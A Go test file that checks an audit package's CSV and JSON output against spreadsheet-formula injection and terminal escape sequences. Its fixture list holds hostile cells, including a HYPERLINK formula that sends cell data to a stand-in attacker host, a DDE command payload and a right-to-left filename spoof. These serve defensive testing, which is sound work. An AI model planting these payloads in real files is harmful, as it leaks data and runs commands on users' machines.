package audit

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"go/ast"
	"go/parser"
	"go/token"
	"math"
	"slices"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"
)

// hostile are cells that were seen in the wild, or are known to work.
var hostile = []string{
	"", "plain", "acme/payments", "=1+1", `=HYPERLINK("http://evil.example?"&A1,"x")`, "+1", "-1", "@SUM(A1)", " =1", "\t=1", "\r=1", "\n=1",
	"a,=1", "a;=1", `a","=1`, `";=1`, "'=1", "''", "'", "＝1+1", "−2", "a|=cmd|' /C calc'!A0", "\x1b[2Jgone", "a\x00b", "\u202egpj.exe", "\u009b31m", "a\nb", "\xff", "--flag", "x'=1",
}

// risky returns what a spreadsheet might compute in a file, whichever of the usual
// separators it splits by, and whether it minds quotation marks or not.
func risky(file string) string {
	for _, line := range strings.Split(file, "\r\n") {
		for _, separator := range []string{",", ";", "|", "\t", `","`} {
			for _, cell := range strings.Split(line, separator) {
				cell = strings.TrimLeft(cell, "\" \u00a0\u3000")
				if r, _ := utf8.DecodeRuneInString(cell); strings.ContainsRune("=+-@＝＋－＠−", r) && cell != "" {
					return cell
				}
			}
		}
	}
	return ""
}

// holdsCSV checks the properties of a row: no cell computes, nothing moves the
// cursor, and a reader gets back what was written.
func holdsCSV(t *testing.T, cells ...string) {
	t.Helper()
	var b bytes.Buffer
	if err := NewCSV(&b).Write(cells...); err != nil {
		t.Fatal(err)
	}
	if cell := risky(b.String()); cell != "" {
		t.Errorf("%q is a formula in %q", cell, b.String())
	}
	if body := strings.TrimSuffix(b.String(), "\r\n"); !isPlain(body) {
		t.Errorf("%q has something that a terminal obeys", body)
	}
	r := csv.NewReader(&b)
	r.FieldsPerRecord = len(cells)
	rows, err := r.ReadAll()
	if err != nil || len(rows) != 1 {
		t.Fatalf("%q was read as %q: %v", cells, rows, err)
	}
	for i, cell := range cells {
		if got, want := Uncell(rows[0][i]), Text(cell, math.MaxInt); got != want {
			t.Errorf("%q came back as %q", want, got)
		}
	}
}

func TestCSV(t *testing.T) {
	for _, cell := range hostile {
		holdsCSV(t, cell, "x")
		holdsCSV(t, "x", cell, cell)
	}
	var b bytes.Buffer
	_ = NewCSV(&b).Write("=1", `say "hi"`, "a,-b", "2026-11-21")
	if got, want := b.String(), `"'=1","say ""hi""","a,'-b","2026-11-21"`+"\r\n"; got != want {
		t.Errorf("got %s, want %s", got, want)
	}
	if risky("x,=1\r\n") == "" || risky(`"a;=1"`) == "" || risky(`"=1"`) == "" {
		t.Error("the test does not see a formula")
	}
}

func FuzzCSV(f *testing.F) {
	for i, cell := range hostile {
		f.Add(cell, hostile[len(hostile)-1-i])
	}
	f.Fuzz(func(t *testing.T, a, b string) { holdsCSV(t, a, b) })
}

// FuzzShown: a string that was made safe to show is the string that it was, and
// shows nothing else.
func FuzzShown(f *testing.F) {
	for _, s := range append(hostile, `{"a":"\u202e","b":[1,"x"]}`, "{\n\"a\":\t\"\u009b\"}") {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		quoted := AppendString(nil, s)
		var back string
		if err := json.Unmarshal(quoted, &back); err != nil || back != strings.ToValidUTF8(s, "\ufffd") && utf8.ValidString(s) {
			t.Errorf("%q became %s, and %q again: %v", s, quoted, back, err)
		}
		shown := AppendShown(nil, []byte(s))
		if !isPlain(string(quoted)) || !isPlain(string(shown)) {
			t.Errorf("%q is shown as %s and %s", s, quoted, shown)
		}
		if !json.Valid(shown) {
			t.Errorf("%q became %s, which is not JSON", s, shown)
		}
		if utf8.ValidString(s) && json.Valid([]byte(s)) {
			var a, b any
			if json.Unmarshal([]byte(s), &a) != nil || json.Unmarshal(shown, &b) != nil {
				return // too deep, or a number that does not fit
			}
			first, _ := json.Marshal(a)
			second, _ := json.Marshal(b)
			if !bytes.Equal(first, second) {
				t.Errorf("%s became %s", s, shown)
			}
		}
	})
}

// TestKinds: the list has every constant, so that a new kind is added there.
func TestKinds(t *testing.T) {
	file, err := parser.ParseFile(token.NewFileSet(), "event.go", nil, 0)
	if err != nil {
		t.Fatal(err)
	}
	found := 0
	ast.Inspect(file, func(n ast.Node) bool {
		spec, ok := n.(*ast.ValueSpec)
		if !ok || len(spec.Names) != 1 || !strings.HasPrefix(spec.Names[0].Name, "Kind") || len(spec.Values) != 1 {
			return true
		}
		kind, err := strconv.Unquote(spec.Values[0].(*ast.BasicLit).Value)
		if err != nil {
			t.Fatal(err)
		}
		found++
		if !slices.Contains(Kinds, Kind(kind)) {
			t.Errorf("Kinds does not have %s", spec.Names[0].Name)
		}
		return true
	})
	if found != len(Kinds) || found < 14 {
		t.Errorf("there are %d constants, and %d kinds", found, len(Kinds))
	}
}

// TestCSVIsNeeded: the standard writer keeps a formula as it is, and so does a cell that
// is printed as text.
func TestCSVIsNeeded(t *testing.T) {
	for _, cell := range []string{"=1+1", `=HYPERLINK("http://evil.example?"&A1,"x")`, "@SUM(A1)"} {
		var b bytes.Buffer
		w := csv.NewWriter(&b)
		if err := w.Write([]string{cell}); err != nil {
			t.Fatal(err)
		}
		if w.Flush(); risky(b.String()) == "" {
			t.Errorf("%q is not a formula in %q", cell, b.String())
		}
		holdsCSV(t, cell)
	}
	const hidden = "\x1b[2Jgone"
	if isPlain(hidden) || !isPlain(Text(hidden, 100)) {
		t.Errorf("%q is printed as %q", hidden, Text(hidden, 100))
	}
}
